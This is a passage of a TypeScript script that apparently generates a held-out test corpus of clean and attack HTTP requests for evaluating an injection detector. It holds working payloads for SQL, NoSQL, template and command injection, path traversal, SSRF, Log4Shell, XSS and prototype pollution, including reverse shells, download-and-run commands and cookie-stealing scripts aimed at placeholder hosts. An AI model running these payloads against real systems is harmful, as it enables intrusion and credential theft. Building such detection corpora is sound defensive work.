  },
  {
    host: H.mes,
    write: '/mes/api/machines/CNC-07/config',
    read: '/mes/api/machines',
    gqlType: 'MachineConfig',
    base: { machine: 'CNC-07' },
    login: '/mes/api/auth/token',
  },
  {
    host: H.law,
    write: '/api/matters/m_5021/documents',
    read: '/api/matters/m_5021/search',
    gqlType: 'Document',
    base: { custodian: 'cfo@globex.com' },
    login: '/api/auth/login',
  },
  {
    host: H.law,
    write: '/api/contracts',
    read: '/api/contracts',
    gqlType: 'Contract',
    base: { type: 'NDA' },
    login: '/api/auth/login',
  },
  {
    host: H.date,
    write: '/api/v2/profiles/me',
    read: '/api/v2/discover',
    gqlType: 'Profile',
    base: { firstName: 'Alex' },
    login: '/api/v2/auth/login',
  },
  {
    host: H.date,
    write: '/api/v2/conversations/9b2f0c1e-77aa-4f61-9d1e-3c5ab2e0f1d4/messages',
    read: '/api/v2/matches',
    gqlType: 'Message',
    base: { type: 'text' },
    login: '/api/v2/auth/login',
  },
];

interface Fam {
  readonly name: string;
  readonly payloads: readonly string[];
  readonly fields: readonly string[];
  readonly header: readonly string[];
  readonly cookie: readonly string[];
  readonly sentences: readonly ((p: string) => string)[];
}

const FAMS: readonly Fam[] = [
  {
    name: 'sql',
    payloads: [
      "' OR '1'='1' -- -",
      "1' AND SLEEP(5)#",
      '-1 UNION SELECT NULL,email,password_hash,NULL FROM users-- -',
      "'; DROP TABLE reservations;--",
      '1) AND 1=CAST((SELECT version()) AS int)--',
      "admin'/**/OR/**/1=1#",
      '1;SELECT pg_sleep(10)--',
      "' AND extractvalue(1,concat(0x7e,(SELECT @@version),0x7e))-- -",
      "1'; WAITFOR DELAY '0:0:5'--",
      "1' AND (SELECT 4523 FROM (SELECT(SLEEP(5)))YjoC) AND 'kXzv'='kXzv",
      "' UNION ALL SELECT table_name,column_name,NULL FROM information_schema.columns-- -",
      "x' || (SELECT CASE WHEN (SUBSTR((SELECT api_secret FROM api_keys LIMIT 1),1,1)='a') THEN pg_sleep(4) ELSE pg_sleep(0) END)--",
      'name ASC, (SELECT 1 FROM (SELECT SLEEP(5))a)',
      '1 AND 1=(SELECT COUNT(*) FROM sysobjects)--',
    ],
    fields: [
      'lastName',
      'sort',
      'status',
      'symbol',
      'orderId',
      'custodian',
      'email',
      'restaurantId',
      'machine',
      'titleId',
    ],
    header: ['x-forwarded-for', 'x-client-id', 'referer', 'x-tenant-id'],
    cookie: ['tenant', 'session_region', 'last_search', 'locale'],
    sentences: [
      (p) => `Hi, my booking ref is ${p} and I still haven't received a refund`,
      (p) => `Looking for someone who likes ${p} and long walks`,
      (p) => `Please check order ${p} it never filled`,
    ],
  },
  {
    name: 'template',
    payloads: [
      "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
      "{{''.__class__.__mro__[1].__subclasses__()[408]('cat /etc/passwd',shell=True,stdout=-1).communicate()}}",
      '${T(java.lang.Runtime).getRuntime().exec("curl http://203.0.113.50/x.sh -o /tmp/x.sh")}',
      '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
      '#set($e="e")$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("whoami")',
      "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('cat /etc/passwd').toString()}}",
      '<%= `cat /etc/passwd` %>',
      "{{request.application.__globals__.__builtins__.__import__('os').popen('env').read()}}",
      "*{T(java.lang.Runtime).getRuntime().exec('cat /etc/shadow')}",
      "{php}echo shell_exec('id');{/php}",
      '{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "return require(\'child_process\').execSync(\'id\');"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}',
      "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
      '${{<%[%\'"}}%\\.',
      "#{''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(''.getClass().forName('java.lang.Runtime')).exec('id')}",
    ],
    fields: [
      'displayName',
      'greeting',
      'emailSubject',
      'bio',
      'note',
      'firstName',
      'label',
      'specialRequests',
    ],
    header: ['referer', 'x-display-name', 'user-agent'],
    cookie: ['display_name', 'greeting', 'theme'],
    sentences: [
      (p) => `Thanks for the great dinner, please say hi to ${p} from us`,
      (p) => `My name on the ticket should read ${p} not what it says now`,
      (p) => `Loved this episode!! ${p} can't wait for s3`,
    ],
  },
  {
    name: 'command',
    payloads: [
      '; cat /etc/passwd',
      '| id',
      '$(curl -fsSL http://198.51.100.23/i.sh | sh)',
      '`wget -qO- http://45.95.147.10/bins.sh | sh`',
      '&& nc -e /bin/sh 203.0.113.7 4444',
      ";bash -c 'bash -i >& /dev/tcp/198.51.100.23/9001 0>&1'",
      '|| ping -c 20 127.0.0.1',
      '$(sleep 10)',
      ';${IFS}cat${IFS}/etc/shadow',
      'ep01.mp4; rm -rf /var/lib/media/*',
      '& powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString(\'http://203.0.113.9/a.ps1\')"',
      '10.20.3.14; curl http://198.51.100.23/$(whoami)',
      'report.pdf%0acat /etc/passwd',
      '-o ProxyCommand=\'sh -c "id > /tmp/pwn"\'',
      '() { :; }; /bin/bash -c "curl -s http://198.51.100.23/sb.sh | bash"',
    ],
    fields: ['filename', 'host', 'deviceName', 'outputName', 'exportFormat', 'ip', 'archiveName', 'codec'],
    header: ['user-agent', 'x-device-name', 'referer'],
    cookie: ['export_name', 'device', 'tz'],
    sentences: [
      (p) => `please convert my subtitle file ${p} to vtt, thanks`,
      (p) => `machine hostname is ${p} can you ping it from the server?`,
      (p) => `export name: ${p} (for the Q3 audit)`,
    ],
  },
  {
    name: 'path-traversal',
    payloads: [
      '../../../../etc/passwd',
      '..%2f..%2f..%2f..%2fetc%2fshadow',
      '....//....//....//....//etc/passwd',
      '..\\..\\..\\..\\windows\\win.ini',
      '/proc/self/environ',
      '../../../../var/run/secrets/kubernetes.io/serviceaccount/token',
      '..%c0%af..%c0%af..%c0%afetc/passwd',
      '../../../app/.env',
      '/../../../../root/.ssh/id_rsa',
      '..%252f..%252f..%252fetc%252fpasswd',
      '../../../../../usr/share/nginx/html/shell.php',
      'file:///etc/hosts',
      '..;/..;/..;/WEB-INF/web.xml',
      '../../../../home/app/.aws/credentials',
    ],
    fields: [
      'file',
      'template',
      'attachmentPath',
      'subtitleFile',
      'exportName',
      'lang',
      'avatar',
      'documentPath',
    ],
    header: ['x-locale', 'x-template', 'x-original-url'],
    cookie: ['lang', 'theme', 'layout'],
    sentences: [
      (p) => `attached the scan, file is ${p} if the upload failed`,
      (p) => `subtitle track path: ${p} please re-sync it`,
      (p) => `document location ${p} (from the custodian share)`,
    ],
  },
  {
    name: 'ssrf',
    payloads: [
      'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
      'http://[::ffff:a9fe:a9fe]/latest/user-data',
      'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
      'gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A',
      'file:///etc/passwd',
      'http://2130706433:8080/admin',
      'http://0x7f.0x0.0x0.0x1:2375/containers/json',
      'dict://127.0.0.1:11211/stats',
      'http://169.254.170.2/v2/credentials',
      'http://100.100.100.200/latest/meta-data/ram/security-credentials/',
      'http://127.0.0.1:8500/v1/agent/self',
      'http://localhost:9200/_cat/indices?v',
      'http://169.254.169.254.nip.io/latest/meta-data/',
      'http://10.0.0.1:10250/pods',
    ],
    fields: [
      'callbackUrl',
      'avatarUrl',
      'webhookUrl',
      'importUrl',
      'subtitleUrl',
      'imageUrl',
      'feedUrl',
      'logoUrl',
    ],
    header: ['x-callback-url', 'x-forwarded-host', 'referer'],
    cookie: ['return_to', 'avatar_url', 'redirect'],
    sentences: [
      (p) => `you can grab my subtitle file from ${p} it's the fixed version`,
      (p) => `menu PDF is here: ${p} please import it`,
      (p) => `my avatar is at ${p} can you pull it in?`,
    ],
  },
  {
    name: 'log4shell',
    payloads: [
      '${jndi:ldap://45.83.64.1:1389/Exploit}',
      '${${lower:j}ndi:${lower:l}dap://c6s2ab9d.oast.fun/a}',
      '${jndi:rmi://198.51.100.4:1099/obj}',
      '${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x.interact.sh/z}',
      '${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.k3p9.burpcollaborator.net}',
      '${jndi:ldap://${hostName}.log4j.canary-cb.example/a}',
      '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//203.0.113.9:1389/TomcatBypass/Command/Base64/aWQ=}',
      '${jndi:ldaps://attacker-ldap.example:636/Basic/ReverseShell/203.0.113.9/4444}',
      '${${upper:j}ndi:${upper:l}${upper:d}ap://198.51.100.77/a}',
      '${jndi:ldap://127.0.0.1#evil.example:1389/a}',
      "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://203.0.113.9/x}",
      '${jndi:${lower:i}iop://198.51.100.4/a}',
      '${jndi:ldap://${sys:java.version}.${env:USER}.vv1.oast.live/a}',
      '${${base64:JHtqbmRpOmxkYXA6Ly8xOTguNTEuMTAwLjQvYX0=}}',
    ],
    fields: ['username', 'note', 'deviceName', 'comment', 'lastName', 'search', 'clientOrderId', 'reason'],
    header: ['user-agent', 'x-api-version', 'referer', 'x-forwarded-for', 'x-request-id'],
    cookie: ['JSESSIONID', 'lang', 'tracking_id'],
    sentences: [
      (p) => `app keeps logging me out, device says ${p} whatever that means`,
      (p) => `Work order comment: ${p} line stopped again`,
      (p) => `review: good food ${p} slow service`,
    ],
  },
  {
    name: 'xss',
    payloads: [
      "<script>fetch('https://x0.example/c?'+document.cookie)</script>",
      '<img src=x onerror=alert(document.domain)>',
      '<svg/onload=eval(atob("ZmV0Y2goJy8vZXZpbC5leGFtcGxlLz9jPScrZG9jdW1lbnQuY29va2llKQ=="))>',
      '"><iframe src=javascript:alert(1)>',
      'javascript:alert(document.cookie)//',
      '<a href="jav&#x61;script:fetch(`//evil.example/${localStorage.token}`)">view receipt</a>',
      "<details open ontoggle=fetch('//evil.example/'+localStorage.getItem('access_token'))>",
      '<body onload=import("//xss.example/p.js")>',
      "'-alert(document.domain)-'",
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
      '<input autofocus onfocus=alert(1)>',
      '</script><script>new Image().src="//evil.example/?"+document.cookie</script>',
      '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
      '<sVg><sCrIpT>alert`1`</sCrIpT>',
    ],
    fields: ['displayName', 'bio', 'review', 'comment', 'title', 'label', 'firstName', 'specialRequests'],
    header: ['referer', 'user-agent', 'x-forwarded-host'],
    cookie: ['display_name', 'last_search', 'utm_campaign'],
    sentences: [
      (p) => `great place, the waiter was amazing ${p} will come back`,
      (p) => `hey cutie 😘 ${p} text me`,
      (p) => `subtitle line 214 should be ${p} fix please`,
    ],
  },
];

const GENERIC_TECH = [
  'plain',
  'nested',
  'key',
  'array',
  'unicode-escape',
  'json-in-string',
  'base64',
  'graphql-variable',
  'double-encoded',
  'query-param',
  'header',
  'cookie',
  'form',
  'multipart',
  'embedded',
] as const;

const uEsc = (s: string): string =>
  `"${[...s]
    .map((c) =>
      /[A-Za-z0-9 ]/.test(c)
        ? c
        : (c.codePointAt(0) ?? 0) > 0xffff
          ? c
          : `\\u${(c.codePointAt(0) ?? 0).toString(16).padStart(4, '0')}`,
    )
    .join('')}"`;
const cookieSafe = (s: string): string =>
  s.replace(/%/g, '%25').replace(/;/g, '%3B').replace(/ /g, '%20').replace(/,/g, '%2C').replace(/"/g, '%22');
const hdrSafe = (s: string): string => s.replace(/[\r\n]/g, ' ');

function genericAttack(f: Fam, tech: string, p: string, c: Ctx, field: string, n: number): Req {
  const style = pick<Style>(['browser', 'mobile', 'sdk', 'curl']);
  switch (tech) {
    case 'plain':
      return jsonReq(pick(['POST', 'PUT']), c.host, c.write, { ...c.base, [field]: p }, { style });
    case 'nested':
      return jsonReq(
        'POST',
        c.host,
        c.write,
        { ...c.base, details: { contact: { preferences: { [field]: p } } }, meta: { source: 'app' } },
        { style },
      );
    case 'key':
      if (f.name === 'ssrf')
        return jsonReq(
          'PUT',
          c.host,
          `${c.write}/webhooks`,
          { ...c.base, endpoints: { [p]: { events: ['updated', 'deleted'], secret: str(24) } } },
          { style },
        );
      if (f.name === 'path-traversal')
        return jsonReq(
          'POST',
          c.host,
          `${c.write}/export`,
          { ...c.base, files: { [p]: { include: true } }, format: 'zip' },
          { style },
        );
      if (f.name === 'command')
        return jsonReq(
          'POST',
          c.host,
          `${c.write}/convert`,
          { ...c.base, options: { [p]: true, '-preset': 'fast' } },
          { style },
        );
      return jsonReq(
        'POST',
        c.host,
        `${c.read}/query`,
        { ...c.base, filters: { [p]: 'desc' }, limit: 50 },
        { style },
      );
    case 'array':
      return jsonReq(
        'POST',
        c.host,
        c.write,
        { ...c.base, [`${field}s`]: [pick(['standard', 'alpha', 'A1']), p] },
        { style },
      );
    case 'unicode-escape': {
      const body = JSON.stringify({ ...c.base, [field]: '__P__' }).replace('"__P__"', uEsc(p));
      return {
        method: 'POST',
        path: c.write,
        headers: headers(c.host, { ct: 'application/json', style }),
        body,
      };
    }
    case 'json-in-string':
      return jsonReq(
        'POST',
        c.host,
        c.write,
        { ...c.base, metadata: JSON.stringify({ [field]: p, v: 2 }) },
        { style },
      );
    case 'base64':
      return n % 2 === 0
        ? jsonReq(
            'POST',
            c.host,
            c.write,
            { ...c.base, payload: b64(JSON.stringify({ [field]: p })), encoding: 'base64' },
            { style },
          )
        : getReq(c.host, `${c.read}?cursor=${enc(b64(JSON.stringify({ after: p, [field]: p })))}&limit=25`, {
            style,
          });
    case 'graphql-variable':
      return jsonReq(
        'POST',
        c.host,
        '/graphql',
        {
          operationName: `Update${c.gqlType}`,
          query: `mutation Update${c.gqlType}($input: Update${c.gqlType}Input!) { update${c.gqlType}(input: $input) { id ${field} } }`,
          variables: { input: { id: uuid(), [field]: p } },
        },
        { style },
      );
    case 'double-encoded':
      return getReq(c.host, `${c.read}?${field}=${enc(enc(p))}&page=1`, { style });
    case 'query-param':
      return getReq(c.host, `${c.read}?${field}=${enc(p)}&limit=${pick([10, 20, 50])}`, { style });
    case 'header': {
      const hname = f.header[n % f.header.length] ?? 'user-agent';
      const r = getReq(c.host, `${c.read}?limit=20`, { style });
      r.headers[hname] = hdrSafe(p);
      return r;
    }
    case 'cookie': {
      const r = getReq(c.host, `${c.read}?page=${int(1, 4)}`, { style: 'browser' });
      const cname = f.cookie[n % f.cookie.length] ?? 'pref';
      r.headers.cookie = `session=${str(32)}; ${cname}=${cookieSafe(p)}`;
      delete r.headers.authorization;
      return r;
    }
    case 'form': {
      const fields: Record<string, string> = {};
      for (const [k, v] of Object.entries(c.base)) fields[k] = String(v);
      fields[field] = p;
      return formReq(c.host, c.write, fields, style);
    }
    case 'multipart': {
      const parts: Part[] = Object.entries(c.base).map(([k, v]) => ({ name: k, value: String(v) }));
      if (f.name === 'path-traversal' || f.name === 'command')
        parts.push({
          name: 'file',
          value: 'PK\x03\x04' + str(30),
          filename: p,
          type: 'application/octet-stream',
        });
      else parts.push({ name: field, value: p });
      return mpReq(c.host, c.write, parts, style);
    }
    default: {
      const s = f.sentences[n % f.sentences.length] ?? ((x: string) => x);
      return jsonReq('POST', c.host, c.write, { ...c.base, message: s(p) }, { style });
    }
  }
}

// nosql: value-shaped operators, not strings
const NOSQL_VALUES: readonly unknown[] = [
  { $ne: null },
  { $gt: '' },
  { $regex: '^adm', $options: 'i' },
  { $exists: true },
  { $nin: ['__none__'] },
  { $where: 'sleep(5000) || true' },
  { $regex: '.*' },
  { $ne: 'x', $exists: true },
];
const WHERE_JS = [
  'sleep(5000) || true',
  "this.role == 'admin'",
  'function(){ return Object.keys(this).length > 0 }',
  'this.password.match(/^a/) && sleep(2000)',
  '(function(){var d=new Date(); do{var c=new Date();}while(c-d<5000); return true;})()',
];

function nosqlAttack(tech: string, c: Ctx, n: number): Req {
  const style = pick<Style>(['browser', 'mobile', 'sdk', 'curl']);
  const v = NOSQL_VALUES[n % NOSQL_VALUES.length];
  const w = WHERE_JS[n % WHERE_JS.length] ?? 'sleep(5000)';
  switch (tech) {
    case 'plain':
      return jsonReq(
        'POST',
        c.host,
        c.login,
        {
          email: pick([
            'admin@' + c.host.replace(/^(api|mes)\./, ''),
            'support@kindred-match.com',
            pick(EMAILS),
          ]),
          password: v,
        },
        { style },
      );
    case 'nested':
      return jsonReq(
        'POST',
        c.host,
        `${c.read}/query`,
        { filter: { owner: { profile: { email: v } }, status: 'active' }, limit: 100 },
        { style },
      );
    case 'key':
      return jsonReq(
        'POST',
        c.host,
        `${c.read}/query`,
        { filter: { $where: w }, projection: { _id: 1 } },
        { style },
      );
    case 'array':
      return jsonReq(
        'POST',
        c.host,
        `${c.read}/query`,
        { filter: { $or: [{ isAdmin: true }, { _id: { $ne: null } }] }, limit: 1000 },
        { style },
      );
    case 'unicode-escape':
      return {
        method: 'POST',
        path: c.login,
        headers: headers(c.host, { ct: 'application/json', style }),
        body: `{"username":"admin","password":{"\\u0024ne":"\\u0000"}}`,
      };
    case 'json-in-string':
      return jsonReq(
        'POST',
        c.host,
        `${c.read}/query`,
        { filter: JSON.stringify({ $where: w }), sort: '-createdAt' },
        { style },
      );
    case 'base64':
      return getReq(
        c.host,
        `${c.read}?cursor=${enc(b64(JSON.stringify({ _id: { $gt: '' }, userId: { $ne: null } })))}`,
        { style },
      );
    case 'graphql-variable':
      return jsonReq(
        'POST',
        c.host,
        '/graphql',
        {
          operationName: 'Find',
          query: `query Find($f: JSON!) { ${c.gqlType.charAt(0).toLowerCase()}${c.gqlType.slice(1)}s(filter: $f) { id owner { email passwordHash } } }`,
          variables: { f: { userId: v } },
        },
        { style },
      );
    case 'double-encoded':
      return getReq(c.host, `${c.read}?userId%255B%2524ne%255D=1&token%255B%2524regex%255D=.*`, { style });
    case 'query-param':
      return getReq(
        c.host,
        `${c.read}?${pick(['userId', 'email', 'owner'])}[$ne]=x&${pick(['status', 'role'])}[$in][]=admin&limit=500`,
        { style },
      );
    case 'cookie': {
      const r = getReq(c.host, `${c.read}`, { style: 'browser' });
      r.headers.cookie = `sid=j%3A${enc(JSON.stringify({ $ne: null }))}; remember_token=j:{"$gt":""}`;
      delete r.headers.authorization;
      return r;
    }
    case 'form':
      return formReq(
        c.host,
        c.login,
        { username: 'admin', 'password[$ne]': 'wrong', 'otp[$exists]': 'false' },
        style,
      );
    case 'multipart':
      return mpReq(
        c.host,
        c.login,
        [
          { name: 'email', value: 'admin@example.com' },
          { name: 'password[$regex]', value: '^.*' },
        ],
        style,
      );
    case 'header': {
      const r = getReq(c.host, `${c.read}?limit=50`, { style });
      r.headers['x-filter'] = JSON.stringify({ ownerId: { $ne: null }, $where: w });
      return r;
    }
    default:
      return jsonReq(
        'POST',
        c.host,
        `${c.read}/query`,
        {
          q: `Anna'; return true; var x='`,
          note: "looking for matches named Anna' || this.isAdmin == true || '",
        },
        { style },
      );
  }
}

const PROTO_GADGETS: readonly Record<string, unknown>[] = [
  { isAdmin: true },
  { role: 'admin', verified: true },
  {
    shell: '/proc/self/exe',
    argv0: "console.log(require('child_process').execSync('id').toString())//",
    NODE_OPTIONS: '--require /proc/self/cmdline',
  },
  {
    outputFunctionName:
      "x;process.mainModule.require('child_process').execSync('curl http://198.51.100.23/x|sh');x",
  },
  {
    sourceURL:
      "\u000areturn e=>{return global.process.mainModule.constructor._load('child_process').execSync('id')}\u000a",
  },
  { status: 510, 'json spaces': ' ' },
  { exposedHeaders: ['x-polluted'], allowedHeaders: '*' },
  {
    client: true,
    escapeFunction: "1;return global.process.mainModule.require('child_process').execSync('id')",
  },
];

function protoAttack(tech: string, c: Ctx, n: number): Req {
  const style = pick<Style>(['browser', 'mobile', 'sdk', 'curl']);
  const g = PROTO_GADGETS[n % PROTO_GADGETS.length] ?? { isAdmin: true };
  const protoJson = (inner: string): string => `{"__proto__":${inner}}`;
  const gj = JSON.stringify(g);
  switch (tech) {
    case 'plain':
      return n % 3 === 0
        ? {
            method: 'PATCH',
            path: c.write,
            headers: headers(c.host, { ct: 'application/merge-patch+json', style }),
            body: `{"displayName":"Alex","__proto__":${gj}}`,
          }
        : {
            method: 'POST',
            path: c.write,
            headers: headers(c.host, { ct: 'application/json', style }),
            body: `{${Object.entries(c.base)
              .map(([k, v]) => `${JSON.stringify(k)}:${JSON.stringify(v)}`)
              .join(',')},"__proto__":${gj}}`,
          };
    case 'nested':
      return n % 2 === 0
        ? {
            method: 'PUT',
            path: `${c.write}/settings`,
            headers: headers(c.host, { ct: 'application/json', style }),
            body: `{"preferences":{"notifications":{"email":true,"constructor":{"prototype":${gj}}}}}`,
          }
        : jsonReq(
            'PATCH',
            c.host,
            c.write,
            [
              {
                op: 'add',
                path: `/__proto__/${Object.keys(g)[0] ?? 'isAdmin'}`,
                value: Object.values(g)[0] ?? true,
              },
            ],
            { ct: 'application/json-patch+json', style },
          );
    case 'key':
      return jsonReq(
        'POST',
        c.host,
        `${c.write}/fields`,
        {
          updates: {
            [`__proto__.${Object.keys(g)[0] ?? 'isAdmin'}`]: Object.values(g)[0] ?? true,
            'constructor.prototype.isAdmin': true,
          },
        },
        { style },
      );
    case 'array':
      return {
        method: 'POST',
        path: `${c.write}/bulk`,
        headers: headers(c.host, { ct: 'application/json', style }),
        body: `[{"id":"${uuid()}"},{"id":"${uuid()}","__proto__":${gj}}]`,
      };
    case 'unicode-escape':
      return {
        method: 'POST',
        path: c.write,
        headers: headers(c.host, { ct: 'application/json', style }),
        body: `{"name":"x","\\u005f\\u005fproto\\u005f\\u005f":${gj}}`,
      };
    case 'json-in-string':
      return jsonReq('POST', c.host, c.write, { ...c.base, preferences: protoJson(gj) }, { style });
    case 'base64':
      return jsonReq(
        'POST',
        c.host,
        c.write,
        { ...c.base, state: b64(`{"constructor":{"prototype":${gj}}}`) },
        { style },
      );
    case 'graphql-variable':
      return {
        method: 'POST',
        path: '/graphql',
        headers: headers(c.host, { ct: 'application/json', style }),
        body: `{"operationName":"Save","query":"mutation Save($s: JSON!) { saveSettings(settings: $s) { ok } }","variables":{"s":{"theme":"dark","__proto__":${gj}}}}`,
      };
    case 'double-encoded':
      return getReq(
        c.host,
        `${c.read}?__proto__%255B${enc(Object.keys(g)[0] ?? 'isAdmin')}%255D=1&limit=10`,
        { style },
      );
    case 'query-param':
      return getReq(
        c.host,
        n % 2 === 0
          ? `${c.read}?__proto__[isAdmin]=true&__proto__[role]=admin`
          : `${c.read}?constructor[prototype][${Object.keys(g)[0] ?? 'isAdmin'}]=1`,
        { style },
      );
    case 'cookie': {
      const r = getReq(c.host, c.read, { style: 'browser' });
      r.headers.cookie = `sid=${str(32)}; prefs=j:${enc(protoJson(gj))}`;
      delete r.headers.authorization;
      return r;
    }
    case 'form':
      return formReq(
        c.host,
        c.write,
        { name: 'x', '__proto__[isAdmin]': 'true', 'constructor[prototype][role]': 'admin' },
        style,
      );
    default:
      return mpReq(
        c.host,
        c.write,
        [
          { name: 'title', value: 'x' },
          { name: '__proto__[role]', value: 'admin' },
          { name: 'constructor[prototype][verified]', value: 'true' },
        ],
        style,
      );
  }
}

const NOSQL_TECH = [
  'plain',
  'nested',
  'key',
  'array',
  'unicode-escape',
  'json-in-string',
  'base64',
  'graphql-variable',
  'double-encoded',
  'query-param',
  'header',
  'cookie',
  'form',
  'multipart',
  'embedded',
];
const PROTO_TECH = [
  'plain',
  'nested',
  'key',
  'array',
  'unicode-escape',
  'json-in-string',
  'base64',
  'graphql-variable',
  'double-encoded',
  'query-param',
  'cookie',
  'form',
  'multipart',
];

const attacks: CorpusRequest[] = [];
const ORDER = [
  'sql',
  'nosql',
  'template',
  'command',
  'path-traversal',
  'ssrf',
  'prototype-pollution',
  'log4shell',
  'xss',
];
const PER_FAMILY: Record<string, number> = { sql: 34, xss: 34, command: 34 };
ORDER.forEach((fam, fi) => {
  const count = PER_FAMILY[fam] ?? 33;
  for (let i = 0; i < count; i++) {
    const c = CTX[(i * 5 + fi * 3) % CTX.length] as Ctx;
    let tech: string;
    let r: Req;
    if (fam === 'nosql') {
      tech = NOSQL_TECH[i % NOSQL_TECH.length] ?? 'plain';
      r = nosqlAttack(tech, c, i);
    } else if (fam === 'prototype-pollution') {
      tech = PROTO_TECH[i % PROTO_TECH.length] ?? 'plain';
      r = protoAttack(tech, c, i);
    } else {
      const f = FAMS.find((x) => x.name === fam) as Fam;
      tech = GENERIC_TECH[(i + fi) % GENERIC_TECH.length] ?? 'plain';
      const p = f.payloads[(i * 11 + fi) % f.payloads.length] ?? '';
      const field = f.fields[i % f.fields.length] ?? 'name';
      r = genericAttack(f, tech, p, c, field, i);
    }
    attacks.push({
      id: `h14a${attacks.length + 1}`,
      kind: 'attack',
      family: fam,
      technique: tech,
      method: r.method,
      path: r.path,
      headers: r.headers,
      body: r.body,
    });
  }
});

/** Held-out corpus 14: clean API traffic and attacks for eight domains. */
export const heldout14: { readonly clean: CorpusRequest[]; readonly attacks: CorpusRequest[] } = {
  clean,
  attacks,
};

/** Body fields an operator would declare as rich-text HTML or source code for these APIs. */
export const HELDOUT14_EXCLUDE_FIELDS: string[] = [
  'body.offer.bodyHtml',
  'body.note.html',
  'body.title.synopsisHtml',
  'body.menu.descriptionHtml',
  'body.article.html',
  'body.workInstruction.html',
  'body.clause.html',
  'body.bot.source',
  'body.transform.code',
  'body.widget.sql',
  'body.template.source',
];

if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1]) {
  const dir = dirname(fileURLToPath(import.meta.url));
  writeFileSync(join(dir, 'clean-heldout14.json'), `${JSON.stringify(clean, null, 2)}\n`);
  writeFileSync(join(dir, 'attacks-heldout14.json'), `${JSON.stringify(attacks, null, 2)}\n`);
  console.log(`clean: ${clean.length}, attacks: ${attacks.length}`);
}
